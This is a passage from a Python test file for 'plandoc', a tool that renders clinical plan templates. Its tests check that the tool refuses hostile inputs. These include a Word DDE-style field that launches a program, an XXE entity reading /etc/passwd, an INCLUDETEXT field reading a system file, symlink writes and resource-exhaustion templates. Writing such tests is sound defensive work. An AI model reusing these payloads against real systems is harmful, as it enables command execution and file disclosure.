    for pid in map(int, pids.read_text().split()):
        assert (
            not Path(f"/proc/{pid}").exists()
            or "Z" in Path(f"/proc/{pid}/stat").read_text().split()[2]
        ), f"{pid} still runs"


# --- found by an independent review ---------------------------------------------------------------

R_LINK = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://127.0.0.1:9/pic.png" TargetMode="External"/>'
DRAWING = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="x">'
    '<a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdX"/>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def renamed(old: str, new: str, body: str = "") -> bytes:
    """The built-in template with a part renamed (its relationships following)."""
    source = zipfile.ZipFile(io.BytesIO(word_template(body)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = (
                source.read(name)
                .replace(old.encode(), new.encode())
                .replace(old.removeprefix("word/").encode(), new.removeprefix("word/").encode())
            )
            target.writestr(name.replace(old, new), data)
    return out.getvalue()


REVIEWED = {
    "web-link-used-as-picture": (
        lambda: word_template(DRAWING, rels=R_LINK),
        "used as something other than a link",
    ),
    "glued-field": (
        lambda: word_template(FIELD.format('PAGEDDEAUTO c:\\x.exe "/k calc"')),
        "the field PAGEDDEAUTO",
    ),
    "time-field": (lambda: word_template(FIELD.format('TIME \\@ "HH:mm"')), "the field TIME"),
    "filename-field": (lambda: word_template(FIELD.format("FILENAME \\p")), "the field FILENAME"),
    "renamed-header": (lambda: renamed("word/header1.xml", "word/head.xml", ""), ""),
    "renamed-main-part": (
        lambda: renamed("word/document.xml", "word/main.xml"),
        "main document is not word/document.xml",
    ),
    "entities-in-web-settings": (
        lambda: word_template(
            add={
                "word/webSettings2.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
            }
        ),
        "declares entities",
    ),
}


@pytest.mark.parametrize("name", REVIEWED)
def test_what_the_review_found_is_refused(tmp_path: Path, name: str) -> None:
    make, words = REVIEWED[name]
    data = make()
    if name == "renamed-header":  # a renamed header with a field that reads a file
        source = zipfile.ZipFile(io.BytesIO(data))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            for part in source.namelist():
                body = source.read(part)
                if part == "word/head.xml":
                    body = body.replace(
                        b"</w:hdr>",
                        FIELD.format('INCLUDETEXT "/etc/hostname"').encode() + b"</w:hdr>",
                    )
                target.writestr(part, body)
        data, words = out.getvalue(), "word/head.xml holds the field INCLUDETEXT"
    folder = practice(tmp_path, {"plan.docx": data})
    refused(render_cbt(folder, tmp_path / "out", "docx"), words)
    refused(plandoc("templates", "check", str(folder)), words)


def test_a_redline_of_huge_plans_finishes_in_bounded_time(tmp_path: Path) -> None:
    """Thousands of alternating paragraphs: the alignment is bounded, the rest tracked whole."""
    body = "{%p for i in range(6000) %}<w:p><w:r><w:t>{{ i % 2 }}</w:t></w:r></w:p>{%p endfor %}"
    folder = practice(tmp_path, {"plan.docx": word_template(paragraph("x") + body)})
    pair = [str(SAMPLES / "revisions" / f"burnout-v{n}.yaml") for n in (1, 2)]
    result = plandoc(
        "diff",
        *pair,
        "-f",
        "redline",
        "-o",
        str(tmp_path / "r.docx"),
        "--templates",
        str(folder),
        "--today",
        TODAY.isoformat(),
    )
    assert result.code in (0, 1) and "Traceback" not in result.output, result.output
    assert result.seconds < 30, f"took {result.seconds:.0f} s"


def test_templates_check_on_a_huge_template_is_bounded(tmp_path: Path) -> None:
    source = "".join(f"{{{{v{i:06d}}}}}" for i in range(100000))
    folder = practice(tmp_path, {"plan.md.j2": source})
    result = plandoc("templates", "check", str(folder))
    refused(result, "is not a template variable", "and 99980 more")


def test_templates_check_on_a_deeply_nested_template_is_not_an_internal_error(
    tmp_path: Path,
) -> None:
    folder = practice(tmp_path, {"plan.md.j2": "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}"})
    refused(plandoc("templates", "check", str(folder)), "[template.syntax]")


def test_render_never_writes_into_a_template_folder(tmp_path: Path) -> None:
    folder = practice(tmp_path, {"plan.md.j2": "{{ title }}"})
    before = (folder / "plan.md.j2").read_bytes()
    plan = tmp_path / "plan.yaml"
    plan.write_bytes((SAMPLES / "cbt.yaml").read_bytes())
    refused(
        plandoc("render", str(plan), "-f", "md", "-o", str(folder), "--templates", str(folder)),
        "inside the template folder",
        code=2,
    )
    refused(
        plandoc("diff", *PAIR, "-f", "md", "-o", str(folder / "x.md"), "--templates", str(folder)),
        "inside the template folder",
        code=2,
    )
    assert (folder / "plan.md.j2").read_bytes() == before


def test_a_loop_inside_one_c_call_stops_near_the_cpu_limit(tmp_path: Path) -> None:
    body = (
        "{{ ([[0]] * 1000000) | sort | sort | sort | sort | sort | sort | sort | sort | length }}"
        * 40
    )
    result = render_cbt(practice(tmp_path, {"plan.md.j2": body}), tmp_path / "out")
    refused(result, "processor time")
    assert result.seconds < 9


def test_sum_of_lists_is_linear() -> None:
    context = build_context(plan_at(SAMPLES / "cbt.yaml"))
    with _folder({"plan.md.j2": "{{ ([[0]] * 999999) | sum(start=[]) | length }}"}) as folder:
        start = time.monotonic()
        assert render_markdown(context, templates=[folder]).strip() == "999999"
        assert time.monotonic() - start < 4


def test_export_never_writes_through_a_linked_folder(tmp_path: Path, run: Run) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    folder = tmp_path / "practice"
    folder.mkdir()
    (folder / "orientations").symlink_to(victim)
    result = run("templates", "export", "cbt", str(folder))
    assert result.exit_code == 2 and "symbolic link" in result.output
    assert list(victim.iterdir()) == []


def test_a_letter_that_merely_mentions_the_marker_is_not_replaced(tmp_path: Path) -> None:
    letter = tmp_path / "letter.md"
    letter.write_text("My own clinical letter.\n<!-- plandoc:summary see below -->\nSigned, Dr X\n")
    refused(plandoc("diff", *PAIR, "-f", "md", "-o", str(letter)), "pass --force", code=2)
    assert letter.read_text().startswith("My own clinical letter.")
